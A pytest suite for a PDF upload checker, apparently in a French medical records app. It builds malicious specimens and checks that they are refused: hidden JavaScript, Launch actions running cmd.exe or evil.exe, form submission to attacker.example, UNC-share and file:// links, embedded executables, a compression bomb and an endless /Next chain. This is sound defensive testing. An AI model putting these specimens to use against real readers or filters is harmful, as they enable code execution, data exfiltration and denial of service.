"""PDFs with active content are refused, each kind with its own message; clean PDFs, links
to web pages, plain forms, tagged structure and owner-only protection still pass. Pure tests:
every specimen is built here (tests/records/pdf_specimens.py, pypdf, reportlab)."""

from __future__ import annotations

import io
import logging
import time

import pytest
from django.utils import translation
from pypdf import PdfReader, PdfWriter
from pypdf.generic import IndirectObject
from reportlab.pdfgen import canvas

from records.file_types import RejectedFile, inspect_upload
from tests.records.pdf_specimens import build_pdf, build_pdf_with_object_stream
from tests.records.uploads import LIMIT, verdict

JS = b"<</S/JavaScript/JS(app.launchURL\\('https://attacker.example/'\\))>>"


def link(action: bytes) -> bytes:
    """A link annotation on the page, whose click runs ``action``."""
    return b"<</Type/Annot/Subtype/Link/Rect[72 700 200 720]/Border[0 0 0]/A%s>>" % action


def reportlab_pdf(draw=None) -> bytes:
    buf = io.BytesIO()
    pdf = canvas.Canvas(buf)
    pdf.drawString(72, 720, "Compte rendu de consultation")
    if draw:
        draw(pdf)
    pdf.save()
    return buf.getvalue()


# --- refused, one test per kind ----------------------------------------------------------

JAVASCRIPT = {
    "names-tree": build_pdf(
        [b"<</Names[(init) 6 0 R]>>", JS], catalog_extra=b"/Names<</JavaScript 5 0 R>>"
    ),
    "open-action": build_pdf([JS], catalog_extra=b"/OpenAction 5 0 R"),
    "link-click": build_pdf([link(JS)], page_extra=b"/Annots[5 0 R]"),
    "script-in-a-stream": build_pdf(
        [b"<</S/JavaScript/JS 6 0 R>>", b"<</Length 8>>stream\napp.foo\nendstream"],
        catalog_extra=b"/OpenAction 5 0 R",
    ),
    "page-open-trigger": build_pdf([JS], page_extra=b"/AA<</O 5 0 R>>"),
    "form-field-keystroke": build_pdf(
        [
            b"<</FT/Tx/T(nom)/Type/Annot/Subtype/Widget/Rect[72 600 300 620]/P 4 0 R"
            b"/AA<</K " + JS + b">>>>"
        ],
        catalog_extra=b"/AcroForm<</Fields[5 0 R]>>",
        page_extra=b"/Annots[5 0 R]",
    ),
    # Hidden: escaped names (#53 is "S"), compressed object streams, orphans nothing refers to.
    "hex-escaped-names": build_pdf(
        [b"<</S/Java#53cript/J#53(app.alert\\(1\\))>>"], catalog_extra=b"/OpenAction 5 0 R"
    ),
    "in-a-compressed-object-stream": build_pdf_with_object_stream(
        [JS], catalog_extra=b"/OpenAction 5 0 R"
    ),
    "escaped-and-compressed": build_pdf_with_object_stream(
        [b"<</S/JavaScript/J#53(app.alert\\(1\\))>>"]
    ),
    "orphan-object": build_pdf([JS]),
}


@pytest.mark.parametrize("data", JAVASCRIPT.values(), ids=JAVASCRIPT.keys())
def test_javascript_is_refused_wherever_it_hides(data):
    assert PdfReader(io.BytesIO(data), strict=True).pages  # and strictly: only content counts
    assert verdict(data) == "pdf_javascript"


def test_the_compressed_specimen_shows_nothing_in_its_bytes():
    data = JAVASCRIPT["in-a-compressed-object-stream"]
    assert b"JavaScript" not in data and b"/JS" not in data


ACTIONS = {
    "launch-on-click": build_pdf(
        [link(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>")],
        page_extra=b"/Annots[5 0 R]",
    ),
    "launch-on-open": build_pdf([b"<</S/Launch/F(evil.exe)>>"], catalog_extra=b"/OpenAction 5 0 R"),
    "launch-behind-an-indirect-name": build_pdf(
        [b"<</S 6 0 R/F(evil.exe)>>", b"/Launch"], catalog_extra=b"/OpenAction 5 0 R"
    ),
    "launch-in-a-next-chain": build_pdf(
        [link(b"<</S/GoTo/D[4 0 R/Fit]/Next 6 0 R>>"), b"<</S/Launch/F(evil.exe)>>"],
        page_extra=b"/Annots[5 0 R]",
    ),
    "submit-form": build_pdf(
        [link(b"<</S/SubmitForm/F<</FS/URL/F(https://attacker.example/)>>>>")],
        page_extra=b"/Annots[5 0 R]",
    ),
    "import-data": build_pdf(
        [link(b"<</S/ImportData/F(data.fdf)>>")], page_extra=b"/Annots[5 0 R]"
    ),
    "remote-go-to": build_pdf(
        [link(b"<</S/GoToR/F(\\\\\\\\attacker\\\\share\\\\x.pdf)/D[0/Fit]>>")],
        page_extra=b"/Annots[5 0 R]",
    ),
    "link-to-a-file": build_pdf(
        [link(b"<</S/URI/URI(file:///C:/Windows/System32/cmd.exe)>>")],
        page_extra=b"/Annots[5 0 R]",
    ),
    "link-to-a-windows-share": build_pdf(
        [link(b"<</S/URI/URI(\\\\\\\\attacker.example\\\\share)>>")],
        page_extra=b"/Annots[5 0 R]",
    ),
    "javascript-uri": build_pdf(
        [link(b"<</S/URI/URI(javascript:alert\\(1\\))>>")], page_extra=b"/Annots[5 0 R]"
    ),
    "web-link-opened-automatically": build_pdf(
        [b"<</S/URI/URI(https://tracker.example/opened)>>"], page_extra=b"/AA<</O 5 0 R>>"
    ),
    "web-link-on-open-behind-a-go-to": build_pdf(
        [b"<</S/GoTo/D[4 0 R/Fit]/Next<</S/URI/URI(https://tracker.example/)>>>>"],
        catalog_extra=b"/OpenAction 5 0 R",
    ),
    "reset-form-on-close": build_pdf([b"<</S/ResetForm>>"], catalog_extra=b"/AA<</WC 5 0 R>>"),
    "unknown-action-type": build_pdf([link(b"<</S/Frobnicate>>")], page_extra=b"/Annots[5 0 R]"),
}


@pytest.mark.parametrize("data", ACTIONS.values(), ids=ACTIONS.keys())
def test_launch_automatic_and_external_actions_are_refused(data):
    assert verdict(data) == "pdf_action"


EMBEDDED = {
    "embedded-files-tree": build_pdf(
        [
            b"<</Names[(virus.exe) 6 0 R]>>",
            b"<</Type/Filespec/F(virus.exe)/EF<</F 7 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
        ],
        catalog_extra=b"/Names<</EmbeddedFiles 5 0 R>>",
    ),
    "file-attachment-annotation": build_pdf(
        [b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS(x.exe)>>"],
        page_extra=b"/Annots[5 0 R]",
    ),
    "orphan-embedded-file-stream": build_pdf(
        [b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]
    ),
    "rich-media": build_pdf(
        [b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 20 20]>>"], page_extra=b"/Annots[5 0 R]"
    ),
}


@pytest.mark.parametrize("data", EMBEDDED.values(), ids=EMBEDDED.keys())
def test_embedded_files_and_multimedia_are_refused(data):
    assert verdict(data) == "pdf_embedded_file"


def test_an_xfa_form_is_refused():
    xfa = b"<</Length 20>>stream\n<xdp:xdp></xdp:xdp>\nendstream"
    data = build_pdf([xfa], catalog_extra=b"/AcroForm<</Fields[]/XFA 5 0 R>>")
    assert verdict(data) == "pdf_xfa"


def test_a_pdf_that_opens_only_with_a_password_is_refused():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    assert verdict(out.getvalue()) == "pdf_encrypted"


@pytest.mark.parametrize(
    "data",
    [
        build_pdf([]).replace(b"0000000015 00000 n", b"0000000099 00000 n"),  # a wrong offset
        build_pdf([]).replace(b"startxref\n", b"startxref\n9"),
        build_pdf([]).replace(b"/Count 1", b"/Count 1/Kids[6 0 R]"),  # a duplicate key
        build_pdf([]).replace(b"/Kids[4 0 R]/Count 1", b"/Kids[]/Count 0"),  # no page at all
    ],
    ids=["wrong-offset", "wrong-startxref", "duplicate-key", "no-page"],
)
def test_a_pdf_that_does_not_parse_strictly_is_refused_as_damaged(data):
    assert verdict(data) == "damaged"


def test_a_compressed_bomb_in_an_object_stream_is_refused_without_inflating_it_all():
    # 40 MB of one string, compressed to about 40 KB: over our 32 MB decoding bound, under
    # pypdf's default 75 MB, which would inflate it.
    bomb = build_pdf_with_object_stream([b"<</Producer(" + b"0" * (40 * 1024 * 1024) + b")>>"])
    assert len(bomb) < 100_000
    started = time.monotonic()
    assert verdict(bomb) == "damaged"
    assert time.monotonic() - started < 2  # pypdf's defaults: about 10 s, and 40 MB, here


def test_a_repaired_pdf_is_refused_whatever_the_log_level():
    # pypdf reports the repair as a log warning: a quieter logging setting must not hide it.
    repaired = build_pdf([]).replace(b"0000000015 00000 n", b"0000000099 00000 n")
    loggers = [logging.getLogger(), logging.getLogger("pypdf")]
    levels = [logger.level for logger in loggers]
    for logger in loggers:
        logger.setLevel(logging.ERROR)
    try:
        assert verdict(repaired) == "damaged"
    finally:
        for logger, level in zip(loggers, levels, strict=True):
            logger.setLevel(level)


def test_each_refusal_says_what_was_found_and_what_to_do():
    # The French wording is in the catalogue; the English source is checked here.
    with translation.override("en"):
        messages = {}
        for code, data in (
            ("javascript", JAVASCRIPT["open-action"]),
            ("action", ACTIONS["launch-on-click"]),
            ("embedded", EMBEDDED["embedded-files-tree"]),
        ):
            with pytest.raises(RejectedFile) as refused:
                inspect_upload(io.BytesIO(data), max_bytes=LIMIT)
            messages[code] = refused.value.message
    assert "JavaScript" in messages["javascript"]
    assert "start a program" in messages["action"]
    assert "attached files" in messages["embedded"]
    assert all("as a PDF without" in message for message in messages.values())


# --- still accepted ----------------------------------------------------------------------


def owner_protected() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf())))
    # pypdf annotates its flag enum, and takes the raw (signed) /P value as well.
    writer.encrypt(user_password="", owner_password="owner", permissions_flag=-3904)  # type: ignore[arg-type]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def form_fields(pdf) -> None:
    pdf.acroForm.textfield(name="nom", x=72, y=600, width=200, height=20, value="Martin")
    pdf.acroForm.checkbox(name="urgent", x=72, y=560, checked=True)


ACCEPTED = {
    "reportlab": reportlab_pdf(),
    "web-and-mail-links": reportlab_pdf(
        lambda pdf: (
            pdf.linkURL("https://www.ameli.fr/", (72, 700, 200, 720)),
            pdf.linkURL("mailto:secretariat@chu.example", (72, 680, 200, 700)),
        )
    ),
    "outline-and-link-within": reportlab_pdf(
        lambda pdf: (
            pdf.bookmarkPage("p1"),
            pdf.addOutlineEntry("Compte rendu", "p1"),
            pdf.linkRect("", "p1", (72, 650, 200, 670)),
        )
    ),
    "fillable-form-without-script": reportlab_pdf(form_fields),
    "owner-password-only": owner_protected(),
    "open-on-a-page": build_pdf([], catalog_extra=b"/OpenAction[4 0 R/Fit]"),
    "open-with-a-go-to-action": build_pdf(
        [b"<</S/GoTo/D[4 0 R/XYZ 0 842 0]>>"], catalog_extra=b"/OpenAction 5 0 R"
    ),
    "tagged-structure-with-attributes": build_pdf(
        [
            b"<</Type/StructTreeRoot/K 6 0 R>>",
            b"<</Type/StructElem/S/P/P 5 0 R/Pg 4 0 R/K 0/A<</O/Layout/SpaceAfter 12>>>>",
        ],
        catalog_extra=b"/StructTreeRoot 5 0 R/MarkInfo<</Marked true>>",
    ),
    "compressed-object-stream": build_pdf_with_object_stream([b"<</Producer(LibreOffice)>>"]),
}


@pytest.mark.parametrize("data", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_documents_without_active_content_are_still_accepted(data):
    assert verdict(data) == "accepted"


# --- a second review: loose links, named actions and a /Next array that never ends ----------


def count_resolved(monkeypatch):
    """Count the indirect references resolved (pypdf's real work, unchanged): the work done,
    whatever the machine's load."""
    calls = 0
    get_object = IndirectObject.get_object

    def counting(self):
        nonlocal calls
        calls += 1
        return get_object(self)

    monkeypatch.setattr(IndirectObject, "get_object", counting)
    return lambda: calls


LOOSE = {
    "backslashes-after-the-scheme": b"<</S/URI/URI(http:\\\\\\\\attacker.example\\\\share)>>",
    "scheme-alone": b"<</S/URI/URI(http:)>>",
    "scheme-and-slashes-without-host": b"<</S/URI/URI(https://)>>",
    "no-slashes": b"<</S/URI/URI(http:attacker.example/x)>>",
    "backslash-in-the-host": b"<</S/URI/URI(https://attacker.example\\\\share)>>",
    "mailto-alone": b"<</S/URI/URI(mailto:)>>",
    "mailto-a-share": b"<</S/URI/URI(mailto:\\\\\\\\attacker\\\\share)>>",
    "named-print": b"<</S/Named/N/Print>>",
    "named-save-as": b"<</S/Named/N/SaveAs>>",
    "named-unknown": b"<</S/Named/N/AcroSendMail:SendMail>>",
    "named-without-a-name": b"<</S/Named>>",
}


@pytest.mark.parametrize("action", LOOSE.values(), ids=LOOSE.keys())
def test_links_must_be_web_pages_or_addresses_and_named_actions_page_moves(action):
    assert verdict(build_pdf([link(action)], page_extra=b"/Annots[5 0 R]")) == "pdf_action"


@pytest.mark.parametrize(
    "action",
    [
        b"<</S/URI/URI(https://www.ameli.fr/assure?x=1#haut)>>",
        b"<</S/URI/URI(HTTP://EXAMPLE.ORG)>>",
        b"<</S/URI/URI(mailto:secretariat@chu.example?subject=Compte%20rendu)>>",
        b"<</S/URI/URI(mailto:a@chu.example,b@chu.example)>>",
        b"<</S/Named/N/NextPage>>",
        b"<</S/Named/N/PrevPage>>",
        b"<</S/Named/N/FirstPage>>",
        b"<</S/Named/N/LastPage>>",
    ],
    ids=["web", "uppercase", "mail-with-subject", "two-addresses", "next", "prev", "first", "last"],
)
def test_web_links_addresses_and_page_moves_are_still_accepted(action):
    assert verdict(build_pdf([link(action)], page_extra=b"/Annots[5 0 R]")) == "accepted"


def test_a_next_array_of_100000_references_is_refused_after_a_bounded_walk(monkeypatch):
    # One action whose /Next lists itself 99,999 times: each step used to queue the whole array
    # again (about 10 million look-ups, 5 s and 180 MB). Counting what is queued refuses it at
    # once; the number of references resolved shows the work, whatever the machine's load.
    looping = build_pdf(
        [b"<</S/GoTo/D[4 0 R/Fit]/Next[" + b"5 0 R " * 99_999 + b"]>>"],
        catalog_extra=b"/OpenAction 5 0 R",
    )
    assert len(looping) < 700_000
    resolved = count_resolved(monkeypatch)
    started = time.process_time()
    assert verdict(looping) == "pdf_action"
    assert resolved() < 1_000
    # Secondary, and generous: CPU time of this process, which other loads barely change.
    assert time.process_time() - started < 3


def test_a_next_chain_that_loops_is_read_once_and_still_checked():
    # Two go-to actions that name each other: a reader stops; so does the check (the loop is
    # walked once), and the go-tos alone are harmless.
    pair = build_pdf(
        [b"<</S/GoTo/D[4 0 R/Fit]/Next 6 0 R>>", b"<</S/GoTo/D[4 0 R/Fit]/Next 5 0 R>>"],
        catalog_extra=b"/OpenAction 5 0 R",
    )
    assert verdict(pair) == "accepted"
    hidden = build_pdf(
        [
            b"<</S/GoTo/D[4 0 R/Fit]/Next 6 0 R>>",
            b"<</S/GoTo/D[4 0 R/Fit]/Next[5 0 R 7 0 R]>>",
            b"<</S/Launch/F(evil.exe)>>",
        ],
        catalog_extra=b"/OpenAction 5 0 R",
    )
    assert verdict(hidden) == "pdf_action"


def test_thousands_of_links_sharing_one_long_chain_walk_it_once(monkeypatch):
    # 20,000 links (12 bytes each) whose click runs the same chain of 92 go-to actions: walking
    # the chain for each link cost 1.8 million look-ups for 250 KB (a 5 MB file: a minute of
    # CPU). A chain already checked for clicks is not walked again.
    chain = [b"<</S/GoTo/D[4 0 R/Fit]/Next %d 0 R>>" % (number + 1) for number in range(6, 97)]
    shared = build_pdf(
        [b"[" + b"<</A 6 0 R>>" * 20_000 + b"]", *chain, b"<</S/GoTo/D[4 0 R/Fit]>>"]
    )
    resolved = count_resolved(monkeypatch)
    assert verdict(shared) == "accepted"
    assert resolved() < 1_000


def test_an_action_checked_for_a_click_is_checked_again_when_it_runs_by_itself():
    # A web link is fine on a click, not on an automatic trigger: walking each action once per
    # kind of entry must not let the second use through.
    data = build_pdf(
        [
            link(b" 6 0 R"),
            b"<</S/URI/URI(https://tracker.example/opened)>>",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/AA<</E 6 0 R>>>>",
        ],
        page_extra=b"/Annots[5 0 R 7 0 R]",
    )
    assert verdict(data) == "pdf_action"
